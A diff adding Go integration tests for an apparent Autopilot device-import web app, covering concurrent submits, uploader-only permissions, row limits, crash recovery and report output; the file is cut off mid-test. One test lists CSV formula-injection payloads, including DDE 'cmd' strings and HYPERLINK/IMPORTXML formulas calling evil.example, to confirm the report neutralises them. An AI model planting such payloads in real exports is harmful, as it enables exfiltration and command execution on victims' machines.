@@ -1,0 +1,784 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/csv"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/PuerkitoBio/goquery"
+
+	"autopilotdesk/graphclient"
+	"autopilotdesk/graphclient/emulator"
+	"autopilotdesk/importer"
+	"autopilotdesk/web/identity/demoidp"
+	"autopilotdesk/web/store"
+)
+
+// realHash is a hardware hash of the size real devices produce: about 3,000 bytes, about 4,000
+// base64 characters.
+func realHash() string {
+	b := make([]byte, 2990+int(randByte())%20)
+	rand.Read(b)
+	return base64.StdEncoding.EncodeToString(b)
+}
+
+func randByte() byte {
+	var b [1]byte
+	rand.Read(b[:])
+	return b[0]
+}
+
+// deviceCSV is a portal CSV of devices named prefix-00001 and so on, with real-sized hashes.
+func deviceCSV(prefix string, n int) ([]byte, []string) {
+	var file bytes.Buffer
+	w := csv.NewWriter(&file)
+	w.Write([]string{"Device Serial Number", "Windows Product ID", "Hardware Hash", "Group Tag", "Assigned User"})
+	hashes := make([]string, n)
+	for i := range n {
+		hashes[i] = realHash()
+		w.Write([]string{fmt.Sprintf("%s-%05d", prefix, i+1), "", hashes[i], "Sales", ""})
+	}
+	w.Flush()
+	return file.Bytes(), hashes
+}
+
+// draftOf uploads a file as b and returns the new job's path.
+func draftOf(t *testing.T, d *desk, b *http.Client, data []byte) string {
+	t.Helper()
+	_, doc := d.get(b, "/devices/import")
+	resp, html := d.uploadCSV(b, doc.Find(`input[name="_csrf"]`).First().AttrOr("value", ""), data)
+	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Request.URL.Path, "/devices/import/") {
+		t.Fatalf("pre-flight answered %d at %s: %.500s", resp.StatusCode, resp.Request.URL, html)
+	}
+	return resp.Request.URL.Path
+}
+
+// submitForm is the submit form of a draft as b's browser shows it, no row left out.
+func submitForm(t *testing.T, d *desk, b *http.Client, job string) url.Values {
+	t.Helper()
+	_, doc := d.get(b, job)
+	return formValues(t, doc, `form[action$="/submit"]`)
+}
+
+// postDirect sends a form with b's cookies straight to one server, without following redirects.
+func postDirect(base string, b *http.Client, cookieURL, path string, form url.Values) (int, error) {
+	req, _ := http.NewRequest(http.MethodPost, base+path, strings.NewReader(form.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	u, _ := url.Parse(cookieURL)
+	for _, ck := range b.Jar.Cookies(u) {
+		req.AddCookie(ck)
+	}
+	c := &http.Client{Transport: b.Transport, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+	resp, err := c.Do(req)
+	if err != nil {
+		return 0, err
+	}
+	resp.Body.Close()
+	return resp.StatusCode, nil
+}
+
+// report downloads a finished job's report.
+func report(t *testing.T, d *desk, b *http.Client, job string) [][]string {
+	t.Helper()
+	resp, err := b.Get(d.srv.URL + job + "/report.csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("report answered %d", resp.StatusCode)
+	}
+	rows, err := csv.NewReader(resp.Body).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
+}
+
+// devicesBySerial counts the imported devices the emulator holds for each serial.
+func devicesBySerial(t *testing.T, e *emulator.Emulator, base string, b *http.Client) map[string]int {
+	t.Helper()
+	_ = base
+	counts := map[string]int{}
+	for _, r := range e.Received() {
+		if r.Method != http.MethodPost || !strings.HasSuffix(r.Path, "/import") || r.TooLarge {
+			continue
+		}
+		var body struct {
+			Devices []struct {
+				Serial string `json:"serialNumber"`
+			} `json:"importedWindowsAutopilotDeviceIdentities"`
+		}
+		if err := json.Unmarshal(r.Body, &body); err != nil {
+			t.Fatalf("an import body the emulator accepted does not decode: %v", err)
+		}
+		for _, d := range body.Devices {
+			counts[d.Serial]++
+		}
+	}
+	return counts
+}
+
+// A draft moves to "sending" once, however many submits race: 60 at once from five sessions
+// of the same administrator send the import exactly once.
+func TestImportSubmittedExactlyOnce(t *testing.T) {
+	d := startDeskWith(t, map[string]string{"AUTOPILOTDESK_RATE_LIMIT_CREATE": "off"},
+		appOptions{ImportDelays: emulator.ImportDelays{Unknown: time.Millisecond, Pending: time.Millisecond}})
+	d.app.demo.emu.SetFaults(emulator.Faults{LatencyMin: 50 * time.Millisecond, LatencyMax: 50 * time.Millisecond, Methods: []string{http.MethodPost}})
+	var browsers []*http.Client
+	for range 5 {
+		b := d.browser()
+		d.signIn(b, "admin", "/")
+		browsers = append(browsers, b)
+	}
+	data, _ := deviceCSV("SN-ONCE", 3)
+	job := draftOf(t, d, browsers[0], data)
+	var forms []url.Values
+	for _, b := range browsers {
+		forms = append(forms, submitForm(t, d, b, job))
+	}
+	var wg sync.WaitGroup
+	start := make(chan struct{})
+	var redirected atomic.Int32
+	for i := range 60 {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			<-start
+			status, err := postDirect(d.srv.URL, browsers[i%5], d.srv.URL, job+"/submit", forms[i%5])
+			if err != nil {
+				t.Error(err)
+			}
+			if status == http.StatusSeeOther {
+				redirected.Add(1)
+			}
+		}()
+	}
+	close(start)
+	wg.Wait()
+	if redirected.Load() != 60 {
+		t.Errorf("%d of 60 submits answered with the job page", redirected.Load())
+	}
+	doc := waitFinished(t, d, browsers[1], job)
+	if n := importCalls(d.app.demo.emu); n != 1 {
+		t.Errorf("60 concurrent submits made %d import calls, want 1", n)
+	}
+	for serial, n := range devicesBySerial(t, d.app.demo.emu, "", nil) {
+		if n != 1 {
+			t.Errorf("%s sent %d times", serial, n)
+		}
+	}
+	if got := doc.Find(`[data-testid="outcome"] tr[data-verdict="imported"]`).Length(); got != 3 {
+		t.Errorf("%d rows imported, want 3", got)
+	}
+}
+
+// Only the person who uploaded a file may fix, check, import or look up its devices; the rest
+// of the tenant may follow it. A reader and a second administrator are refused with a page that
+// names the owner, and nothing changes or reaches Graph.
+func TestImportDraftBelongsToItsUploader(t *testing.T) {
+	d := startDesk(t, nil)
+	admin := d.browser()
+	d.signIn(admin, "admin", "/")
+	data := []byte("Device Serial Number,Windows Product ID,Hardware Hash,Group Tag,Assigned User\n" +
+		",," + realHash() + ",,\n" + "SN-OWNED-2,," + realHash() + ",,\n")
+	job := draftOf(t, d, admin, data)
+	_, ownerDoc := d.get(admin, job)
+	fix := formValues(t, ownerDoc, `form[action$="/fix"]`)
+	fix.Set("row-2-serial", "HIJACKED")
+	submit := submitForm(t, d, admin, job)
+
+	for _, who := range []string{"reader", "many-groups"} {
+		b := d.browser()
+		doc := parse(t, d.signIn(b, who, job))
+		if !strings.Contains(doc.Find(`[data-testid="owner"]`).Text(), "Adele Vance") {
+			t.Errorf("%s: the page does not say whose import it is: %s", who, text(doc))
+		}
+		if n := doc.Find(`form[action$="/submit"], form[action$="/fix"], form[action$="/check"], input[name="leaveOut"]`).Length(); n != 0 {
+			t.Errorf("%s is offered %d controls of someone else's draft", who, n)
+		}
+		csrf := doc.Find(`input[name="_csrf"]`).First().AttrOr("value", "")
+		for _, action := range []struct {
+			path string
+			form url.Values
+		}{{"/fix", fix}, {"/check", url.Values{}}, {"/submit", submit}, {"/reconcile", url.Values{}}} {
+			f := url.Values{}
+			for k, v := range action.form {
+				f[k] = v
+			}
+			f.Set("_csrf", csrf)
+			resp, page := d.post(b, job+action.path, f)
+			if resp.StatusCode != http.StatusForbidden || !strings.Contains(text(page), "belongs to Adele Vance (AdeleV@contoso.example)") {
+				t.Errorf("%s POST %s: %d %s", who, action.path, resp.StatusCode, text(page))
+			}
+		}
+	}
+	_, doc := d.get(admin, job)
+	if got := doc.Find(`[data-testid="preflight"] tbody tr`).First().Find("td").Eq(2).Text(); got != "" {
+		t.Errorf("someone else's fix changed the owner's draft: serial %q", got)
+	}
+	for _, r := range d.received() {
+		if r.Method != http.MethodGet {
+			t.Errorf("someone else's action reached Graph: %s %s", r.Method, r.Path)
+		}
+	}
+	// The owner can.
+	resp, _ := d.post(admin, job+"/submit", submit)
+	if resp.Request.URL.Path != job {
+		t.Errorf("the owner's submit landed on %s", resp.Request.URL)
+	}
+}
+
+// A file over the row limit is refused while it is read, within a second, with the limit named
+// and splitting suggested, and nothing of it is stored; a file at the limit is accepted.
+func TestImportRowLimit(t *testing.T) {
+	d := startDesk(t, nil)
+	b := d.browser()
+	doc := parse(t, d.signIn(b, "reader", "/devices/import"))
+	csrf := doc.Find(`input[name="_csrf"]`).First().AttrOr("value", "")
+	var big bytes.Buffer
+	big.WriteString("Device Serial Number,Windows Product ID,Hardware Hash,Group Tag,Assigned User\n")
+	for i := range 1_000_000 {
+		fmt.Fprintf(&big, "S%d,,QUJD,,\n", i)
+	}
+	start := time.Now()
+	resp, html := d.uploadCSV(b, csrf, big.Bytes())
+	took := time.Since(start)
+	if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(html, "more than 10,000 devices") || !strings.Contains(html, "Split it") {
+		t.Fatalf("a 1,000,000-row file answered %d: %.400s", resp.StatusCode, html)
+	}
+	if took > time.Second {
+		t.Errorf("refusing a %d MB file took %s", big.Len()>>20, took)
+	}
+	if jobs, _ := d.app.db.ListImportJobs(context.Background(), "5b7a1c2e-3f4d-4e6a-9b8c-0d1e2f3a4b5c", 10); len(jobs) != 0 {
+		t.Errorf("%d jobs stored for a refused file", len(jobs))
+	}
+
+	small := startDesk(t, map[string]string{"AUTOPILOTDESK_IMPORT_MAX_ROWS": "3"})
+	sb := small.browser()
+	small.signIn(sb, "admin", "/")
+	at, _ := deviceCSV("SN-LIMIT", 3)
+	draftOf(t, small, sb, at)
+	over, _ := deviceCSV("SN-LIMIT", 4)
+	_, doc = small.get(sb, "/devices/import")
+	resp, html = small.uploadCSV(sb, doc.Find(`input[name="_csrf"]`).First().AttrOr("value", ""), over)
+	if resp.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(html, "more than 3 devices") {
+		t.Errorf("a file one row over a limit of 3 answered %d", resp.StatusCode)
+	}
+}
+
+// Batches are cut by bytes as well as by count, so a 10,000-row file of real-sized hashes
+// imports end to end in demo mode; afterwards no hash is readable in the database files.
+func TestImportTenThousandRealSizedHashes(t *testing.T) {
+	if testing.Short() {
+		t.Skip("imports 10,000 devices")
+	}
+	d := startDeskWith(t, nil, appOptions{ImportDelays: emulator.ImportDelays{Unknown: time.Millisecond, Pending: time.Millisecond}})
+	b := d.browser()
+	d.signIn(b, "admin", "/")
+	data, hashes := deviceCSV("SN-BIG", 10000)
+	start := time.Now()
+	job := draftOf(t, d, b, data)
+	t.Logf("pre-flight of %d MB: %s", len(data)>>20, time.Since(start))
+	resp, _ := d.post(b, job+"/submit", submitForm(t, d, b, job))
+	if resp.Request.URL.Path != job {
+		t.Fatalf("submit landed on %s", resp.Request.URL)
+	}
+	doc := waitFinished(t, d, b, job)
+	t.Logf("imported in %s", time.Since(start))
+	if !strings.Contains(doc.Find(`[data-testid="progress-summary"]`).Text(), "10,000 imported") {
+		t.Errorf("summary: %s", doc.Find(`[data-testid="progress-summary"]`).Text())
+	}
+	calls := 0
+	for _, r := range d.app.demo.emu.Received() {
+		if r.Method == http.MethodPost && strings.HasSuffix(r.Path, "/import") {
+			calls++
+			if r.TooLarge || len(r.Body) > graphclient.MaxImportRequestBytes {
+				t.Errorf("an import of %d bytes was sent", len(r.Body))
+			}
+		}
+	}
+	counts := devicesBySerial(t, d.app.demo.emu, "", nil)
+	if len(counts) != 10000 {
+		t.Errorf("%d devices reached Graph", len(counts))
+	}
+	batches, _ := d.app.db.ImportBatches(context.Background(), strings.TrimPrefix(job, "/devices/import/"))
+	if calls != len(batches) || calls < 20 {
+		t.Errorf("%d import calls for %d batches", calls, len(batches))
+	}
+	if rows := report(t, d, b, job); len(rows) != 10001 {
+		t.Errorf("the report has %d lines", len(rows))
+	}
+	assertHashesGone(t, d.app, d.app.cfg.DataDir, hashes[1234])
+}
+
+// assertHashesGone checks that a hash of a finished job is in none of the database's files.
+func assertHashesGone(t *testing.T, a *app, dir, hash string) {
+	t.Helper()
+	for i := 0; a.db.LogTruncatePending() && i < 200; i++ {
+		time.Sleep(10 * time.Millisecond)
+	}
+	raw, _ := base64.StdEncoding.DecodeString(hash)
+	files, _ := filepath.Glob(filepath.Join(dir, "autopilotdesk.db*"))
+	if len(files) == 0 {
+		t.Fatal("no database files")
+	}
+	for _, f := range files {
+		b, _ := os.ReadFile(f)
+		if bytes.Contains(b, raw[1000:1064]) || bytes.Contains(b, []byte(hash[1000:1064])) {
+			t.Errorf("a finished job's hash is readable in %s", filepath.Base(f))
+		}
+	}
+}
+
+// The report lists every row of the file; every cell is formula-safe, whether the text came from
+// the file or from Graph.
+func TestReportCellsAreFormulaSafe(t *testing.T) {
+	hostile := []string{"=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
+		"\t=1+1", "\r=1+1", "  =1+1"}
+	outcomes := map[string]emulator.Outcome{}
+	var file bytes.Buffer
+	w := csv.NewWriter(&file)
+	w.Write([]string{"Device Serial Number", "Windows Product ID", "Hardware Hash", "Group Tag", "Assigned User"})
+	for i, h := range hostile {
+		serial := fmt.Sprintf("SN-HOSTILE-%d", i)
+		outcomes[serial] = emulator.Outcome{Status: "error", ErrorCode: 900 + i, ErrorName: h}
+		w.Write([]string{serial, "", realHash(), "=1+1", ""})
+	}
+	outcomes["SN-HOSTILE-REG"] = emulator.Outcome{Status: "complete", RegistrationID: "=IMPORTXML(\"http://evil.example\",\"//a\")"}
+	w.Write([]string{"SN-HOSTILE-REG", "", realHash(), "@x", ""})
+	w.Write([]string{"-1+1", "", realHash(), "+x", ""})
+	w.Flush()
+	cl := startClusterWith(t, clusterOptions{sqlite: true, emulator: func(o *emulator.Options) { o.Outcomes = outcomes }})
+	cl.start("A")
+	cl.via("A")
+	rd := &desk{t: t, srv: cl.lb}
+	b := cl.browser()
+	rd.signIn(b, "admin", "/")
+	job := draftOf(t, rd, b, file.Bytes())
+	rd.post(b, job+"/submit", submitForm(t, rd, b, job))
+	waitFinished(t, rd, b, job)
+	rows := report(t, rd, b, job)
+	if len(rows) != len(hostile)+3 {
+		t.Fatalf("%d report lines", len(rows))
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("column %q holds a cell a spreadsheet would run: %q", rows[0][i], cell)
+			}
+		}
+	}
+	all := fmt.Sprint(rows)
+	for _, want := range []string{"'=HYPERLINK", "'+cmd", "'-2+3", "'@SUM", "'=IMPORTXML", "'=1+1", "'-1+1", "'@x"} {
+		if !strings.Contains(all, want) {
+			t.Errorf("the report lost %q (it must be kept, neutralised)", want)
+		}
+	}
+}
+
+// stopOnce is a fault hook that stops the first worker to reach point, as if its process died
+// there, and lets every later one through.
+func stopOnce(point string) (hook func(string) error, fired *atomic.Bool) {
+	fired = &atomic.Bool{}
+	return func(p string) error {
+		if p == point && fired.CompareAndSwap(false, true) {
+			return importer.ErrStopped
+		}
+		return nil
+	}, fired
+}
+
+// clusterDesk lets the desk helpers drive a cluster through its load balancer.
+func clusterDesk(t *testing.T, cl *cluster) *desk { return &desk{t: t, srv: cl.lb} }
+
+func waitFired(t *testing.T, fired *atomic.Bool) {
+	t.Helper()
+	for i := 0; !fired.Load(); i++ {
+		if i > 3000 {
+			t.Fatal("the fault point was never reached")
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+}
+
+// A desk killed after Graph accepted a batch and before the answer was stored: restarted on the
+// same data, a new worker takes the job over through the lease, finds the devices in Graph
+// instead of sending them again, and finishes with every row accounted for.
+func TestImportSurvivesACrashBeforeTheAnswerIsStored(t *testing.T) {
+	hook, fired := stopOnce(importer.FaultAnswerReceived)
+	cl := startClusterWith(t, clusterOptions{sqlite: true, app: appOptions{ImportFault: hook, ImportLease: 2 * time.Second,
+		ImportLookupDelays: []time.Duration{0, time.Second}}})
+	cl.start("A")
+	cl.via("A")
+	d := clusterDesk(t, cl)
+	b := cl.browser()
+	d.signIn(b, "admin", "/")
+	data, hashes := deviceCSV("SN-CRASH", 20)
+	job := draftOf(t, d, b, data)
+	d.post(b, job+"/submit", submitForm(t, d, b, job))
+	waitFired(t, fired)
+	if n := importCalls(cl.emu); n != 1 {
+		t.Fatalf("%d import calls before the crash", n)
+	}
+	cl.stop("A") // the process is gone; its lease is left to run out
+	cl.start("A2")
+	cl.via("A2")
+	doc := waitFinished(t, d, b, job)
+	if n := importCalls(cl.emu); n != 1 {
+		t.Errorf("%d import calls in all: a batch was sent again", n)
+	}
+	if got := doc.Find(`[data-testid="outcome"] tr[data-verdict="imported"]`).Length(); got != 20 {
+		t.Errorf("%d of 20 rows imported: %.400s", got, text(doc))
+	}
+	if !strings.Contains(doc.Find(`[data-testid="progress-summary"]`).Text(), "20 rows were found by looking in Graph") {
+		t.Errorf("the page does not say which rows were reconciled: %s", doc.Find(`[data-testid="progress-summary"]`).Text())
+	}
+	rows := report(t, d, b, job)
+	if len(rows) != 21 {
+		t.Fatalf("the report has %d lines", len(rows))
+	}
+	for _, r := range rows[1:] {
+		if r[4] != "imported" || r[8] != "yes" || r[10] == "" {
+			t.Errorf("report row %q", r)
+		}
+	}
+	assertHashesGone(t, cl.byName["A2"], cl.env["AUTOPILOTDESK_DATA_DIR"], hashes[7])
+}
+
+// A desk killed after recording a batch as in flight and before sending it: the batch is never
+// sent blindly; its devices are looked for, not found, and reported "outcome unknown — check"
+// with what to do, and the job still finishes.
+func TestImportLostBeforeSendingIsNeverResentBlindly(t *testing.T) {
+	hook, fired := stopOnce(importer.FaultBatchRecorded)
+	cl := startClusterWith(t, clusterOptions{sqlite: true, app: appOptions{ImportFault: hook, ImportLease: 2 * time.Second,
+		ImportLookupDelays: []time.Duration{0, 50 * time.Millisecond, 100 * time.Millisecond}}})
+	cl.start("A")
+	cl.via("A")
+	d := clusterDesk(t, cl)
+	b := cl.browser()
+	d.signIn(b, "admin", "/")
+	data, _ := deviceCSV("SN-UNSENT", 3)
+	job := draftOf(t, d, b, data)
+	d.post(b, job+"/submit", submitForm(t, d, b, job))
+	waitFired(t, fired)
+	cl.stop("A")
+	cl.start("A2")
+	cl.via("A2")
+	doc := waitFinished(t, d, b, job)
+	if n := importCalls(cl.emu); n != 0 {
+		t.Errorf("%d import calls: a batch whose fate was unknown was sent again", n)
+	}
+	if got := doc.Find(`[data-testid="outcome"] tr[data-verdict="not-found"]`).Length(); got != 3 {
+		t.Errorf("%d of 3 rows read outcome unknown: %.400s", got, text(doc))
+	}
+	rows := report(t, d, b, job)
+	for _, r := range rows[1:] {
+		if r[4] != "outcome unknown — check" || !strings.Contains(r[7], "import it again from your file") {
+			t.Errorf("report row %q", r)
+		}
+	}
+}
+
+// Two desks on one PostgreSQL: 60 concurrent submits of one draft, split between the desks and
+// five sessions, send each batch once; the worker that sends the first batch dies before storing
+// Graph's answer, and a worker takes the job over through the lease without sending it again.
+func TestImportOnTwoDesksSharingPostgres(t *testing.T) {
+	hook, fired := stopOnce(importer.FaultAnswerReceived)
+	cl := startClusterWith(t, clusterOptions{app: appOptions{ImportFault: hook, ImportLease: 2 * time.Second,
+		ImportLookupDelays: []time.Duration{0, time.Second}}, env: map[string]string{"AUTOPILOTDESK_RATE_LIMIT_CREATE": "off"},
+		emulator: func(o *emulator.Options) {
+			o.Faults = emulator.Faults{LatencyMin: 20 * time.Millisecond, LatencyMax: 20 * time.Millisecond}
+		}})
+	cl.start("A")
+	cl.start("B")
+	cl.via("A")
+	d := clusterDesk(t, cl)
+	var browsers []*http.Client
+	for range 5 {
+		b := cl.browser()
+		d.signIn(b, "admin", "/")
+		browsers = append(browsers, b)
+	}
+	data, _ := deviceCSV("SN-PG", 700) // two batches
+	job := draftOf(t, d, browsers[0], data)
+	var forms []url.Values
+	for _, b := range browsers {
+		forms = append(forms, submitForm(t, d, b, job))
+	}
+	var wg sync.WaitGroup
+	start := make(chan struct{})
+	for i := range 60 {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			<-start
+			target := cl.replicas[[]string{"A", "B"}[i%2]]
+			if _, err := postDirect(target.URL, browsers[i%5], cl.lb.URL, job+"/submit", forms[i%5]); err != nil {
+				t.Error(err)
+			}
+		}()
+	}
+	close(start)
+	wg.Wait()
+	doc := waitFinished(t, d, browsers[0], job)
+	if !fired.Load() {
+		t.Error("no worker was stopped: the takeover was not exercised")
+	}
+	batches, _ := cl.apps[0].db.ImportBatches(context.Background(), strings.TrimPrefix(job, "/devices/import/"))
+	if n := importCalls(cl.emu); n != len(batches) || n != 2 {
+		t.Errorf("%d import calls for %d batches", n, len(batches))
+	}
+	for serial, n := range devicesBySerial(t, cl.emu, "", nil) {
+		if n != 1 {
+			t.Errorf("%s sent %d times", serial, n)
+		}
+	}
+	if got := doc.Find(`[data-testid="outcome"] tr[data-verdict="imported"]`).Length(); got != 700 {
+		t.Errorf("%d of 700 rows imported", got)
+	}
+	rows := report(t, d, browsers[0], job)
+	reconciled := 0
+	for _, r := range rows[1:] {
+		if r[8] == "yes" {
+			reconciled++
+		}
+	}
+	if len(rows) != 701 || reconciled == 0 {
+		t.Errorf("report: %d lines, %d reconciled", len(rows), reconciled)
+	}
+}
+
+// When a batch's answer never arrives, the page says what is known and offers one main action,
+// "Check what Graph has", with the support details and the activity record; no import button.
+// Looking finds the devices Graph did import, without sending them again.
+func TestOutcomeUnknownPage(t *testing.T) {
+	d := startDeskWith(t, nil, appOptions{ImportDelays: emulator.ImportDelays{Unknown: time.Millisecond, Pending: time.Millisecond},
+		ImportLookupDelays: []time.Duration{time.Hour, 2 * time.Hour}})
+	d.app.demo.emu.SetFaults(emulator.Faults{LoseWriteAnswers: true})
+	b := d.browser()
+	d.signIn(b, "admin", "/")
+	data, _ := deviceCSV("SN-LOST", 4)
+	job := draftOf(t, d, b, data)
+	d.post(b, job+"/submit", submitForm(t, d, b, job))
+	var doc *goquery.Document
+	for i := 0; ; i++ {
+		_, doc = d.get(b, job)
+		if doc.Find(`[data-testid="outcome-unknown"]`).Length() > 0 || i > 300 {
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	section := doc.Find(`[data-testid="outcome-unknown"]`)
+	if section.Length() != 1 {
+		t.Fatalf("no outcome-unknown section: %.600s", text(doc))
+	}
+	if got := section.Find("h2").Text(); got != "Microsoft Graph did not say whether batch 1 was imported" {
+		t.Errorf("heading %q", got)
+	}
+	if !strings.Contains(section.Text(), "not sent again") || !strings.Contains(section.Text(), "504") && !strings.Contains(section.Text(), "did not say") {
+		t.Errorf("section: %s", section.Text())
+	}
+	if n := section.Find(`form[action$="/reconcile"] button`).Length(); n != 1 || section.Find("button").Text() != "Check what Graph has" {
+		t.Errorf("the main action is missing: %s", section.Text())
+	}
+	if !strings.Contains(section.Find("details pre").Text(), "request-id") {
+		t.Errorf("no support details: %s", section.Text())
+	}
+	activity := section.Find(`a[href^="/activity/"]`).AttrOr("href", "")
+	if activity == "" {
+		t.Fatal("no link to the activity record")
+	}
+	if doc.Find(`form[action$="/submit"]`).Length() != 0 || strings.Contains(text(doc), "Import the devices") {
+		t.Error("an import button is offered while the outcome is unknown")
+	}
+	if got := doc.Find(`[data-testid="outcome"] tr[data-verdict="unknown"]`).Length(); got != 4 {
+		t.Errorf("%d rows read outcome unknown", got)
+	}
+	if _, rec := d.get(b, activity); !strings.Contains(text(rec), "Graph did not say whether it worked") || !strings.Contains(text(rec), "504") {
+		t.Errorf("the activity record: %.500s", text(rec))
+	}
+	// Someone else may watch, not act.
+	reader := d.browser()
+	rdoc := parse(t, d.signIn(reader, "reader", job))
+	if rdoc.Find(`form[action$="/reconcile"]`).Length() != 0 || !strings.Contains(rdoc.Find(`[data-testid="outcome-unknown"]`).Text(), "Only Adele Vance") {
+		t.Errorf("the reader's view: %s", rdoc.Find(`[data-testid="outcome-unknown"]`).Text())
+	}
+
+	d.app.demo.emu.SetFaults(emulator.Faults{})
+	d.post(b, job+"/reconcile", formValues(t, doc, `form[action$="/reconcile"]`))
+	doc = waitFinished(t, d, b, job)
+	if got := doc.Find(`[data-testid="outcome"] tr[data-verdict="imported"]`).Length(); got != 4 {
+		t.Errorf("%d of 4 rows found and imported: %.500s", got, text(doc))
+	}
+	if n := importCalls(d.app.demo.emu); n != 1 {
+		t.Errorf("%d import calls", n)
+	}
+	if !strings.Contains(doc.Find(`[data-testid="outcome"]`).Text(), "Found in Graph after its batch's answer was lost") {
+		t.Error("the rows do not say they were reconciled")
+	}
+}
+
+// partial is final with its own explanation; a null state is unknown, never a failure.
+func TestPartialAndNullStates(t *testing.T) {
+	cl := startClusterWith(t, clusterOptions{sqlite: true, emulator: func(o *emulator.Options) {
+		o.Outcomes = map[string]emulator.Outcome{"SN-STATE-00001": {Status: "partial"}, "SN-STATE-00002": {Status: "null"}}
+	}})
+	cl.start("A")
+	cl.via("A")
+	d := clusterDesk(t, cl)
+	b := cl.browser()
+	d.signIn(b, "admin", "/")
+	data, _ := deviceCSV("SN-STATE", 3)
+	job := draftOf(t, d, b, data)
+	d.post(b, job+"/submit", submitForm(t, d, b, job))
+	var doc *goquery.Document
+	for i := 0; i < 500; i++ {
+		_, doc = d.get(b, job)
+		if doc.Find(`tr[data-verdict="partial"]`).Length() == 1 && doc.Find(`tr[data-verdict="imported"]`).Length() == 1 {
+			break
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	partial := doc.Find(`tr[data-verdict="partial"]`)
+	if partial.Length() != 1 || !strings.Contains(partial.Text(), "only partly done") {
+		t.Errorf("the partial device: %.300s", text(doc))
+	}
+	null := doc.Find(`[data-testid="outcome"] tbody tr`).Eq(1)
+	if null.AttrOr("data-verdict", "") != "sent" || !strings.Contains(null.Text(), "processing") {
+		t.Errorf("a device whose state Graph left null reads %q: %s", null.AttrOr("data-verdict", ""), null.Text())
+	}
+	if strings.TrimSpace(doc.Find("h1").Text()) != "Importing devices" {
+		t.Error("the job finished while a device's state is unknown")
+	}
+}
+
+// Graph refuses a request over its size limit with 413 before running it: the desk splits the
+// batch and sends the halves, and every device is imported once.
+func TestImportSplitsABatchGraphRefusesAsTooLarge(t *testing.T) {
+	cl := startClusterWith(t, clusterOptions{sqlite: true, emulator: func(o *emulator.Options) { o.MaxBodyBytes = 300_000 }})
+	cl.start("A")
+	cl.via("A")
+	d := clusterDesk(t, cl)
+	b := cl.browser()
+	d.signIn(b, "admin", "/")
+	data, _ := deviceCSV("SN-413", 100) // about 440 kB in one batch
+	job := draftOf(t, d, b, data)
+	d.post(b, job+"/submit", submitForm(t, d, b, job))
+	doc := waitFinished(t, d, b, job)
+	if got := doc.Find(`tr[data-verdict="imported"]`).Length(); got != 100 {
+		t.Errorf("%d of 100 imported: %.400s", got, text(doc))
+	}
+	refused := 0
+	for _, r := range cl.emu.Received() {
+		if r.TooLarge {
+			refused++
+		}
+	}
+	if refused == 0 {
+		t.Error("no request was refused as too large: the test proves nothing")
+	}
+	for serial, n := range devicesBySerial(t, cl.emu, "", nil) {
+		if n != 1 {
+			t.Errorf("%s imported %d times", serial, n)
+		}
+	}
+}
+
+// Without a live session of its owner, a job waits and says so; it goes on by itself when they
+// sign in again.
+func TestImportWaitsForItsOwnerToSignIn(t *testing.T) {
+	d := startDeskWith(t, nil, appOptions{ImportDelays: emulator.ImportDelays{Unknown: 300 * time.Millisecond, Pending: time.Millisecond},
+		ImportPausedRecheck: 50 * time.Millisecond})
+	admin := d.browser()
+	d.signIn(admin, "admin", "/")
+	data, _ := deviceCSV("SN-PAUSE", 2)
+	job := draftOf(t, d, admin, data)
+	_, doc := d.post(admin, job+"/submit", submitForm(t, d, admin, job))
+	d.post(admin, "/auth/signout", formValues(t, doc, `form[action="/auth/signout"]`))
+	reader := d.browser()
+	d.signIn(reader, "reader", "/")
+	for i := 0; ; i++ {
+		_, doc = d.get(reader, job)
+		if doc.Find(`[data-testid="paused"]`).Length() == 1 {
+			break
+		}
+		if i > 300 {
+			t.Fatalf("the job did not say it waits for its owner: %.500s", text(doc))
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	if got := doc.Find(`[data-testid="paused"]`).Text(); !strings.Contains(got, "continues by itself when Adele Vance signs in again") {
+		t.Errorf("paused note: %s", got)
+	}
+	time.Sleep(200 * time.Millisecond)
+	if _, doc = d.get(reader, job); strings.TrimSpace(doc.Find("h1").Text()) == "Import finished" {
+		t.Fatal("the job finished without its owner's sign-in")
+	}
+	d.signIn(admin, "admin", "/")
+	doc = waitFinished(t, d, reader, job)
+	if got := doc.Find(`tr[data-verdict="imported"]`).Length(); got != 2 {
+		t.Errorf("%d of 2 imported after the owner came back", got)
+	}
+}
+
+// A job stored before rows had a table of their own is moved into it when first opened: a draft
+// can still be imported, and a finished import still has its page and report.
+func TestImportJobsOfTheEarlierFormat(t *testing.T) {
+	d := startDeskWith(t, nil, appOptions{ImportDelays: emulator.ImportDelays{Unknown: time.Millisecond, Pending: time.Millisecond}})
+	b := d.browser()
+	d.signIn(b, "admin", "/")
+	ctx := context.Background()
+	hash := realHash()
+	old := map[string]any{"fileNotes": []string{"Removed the UTF-8 byte order mark."}, "rows": []map[string]any{
+		{"line": 2, "serial": "SN-OLD-1", "hash": hash, "hashShown": "abcd…wxyz", "groupTag": "Sales"},
+		{"line": 3, "serial": "", "hash": "not base64", "hashShown": "not base64", "errors": []string{"Device Serial Number is empty."}}}}
+	payload, _ := json.Marshal(old)
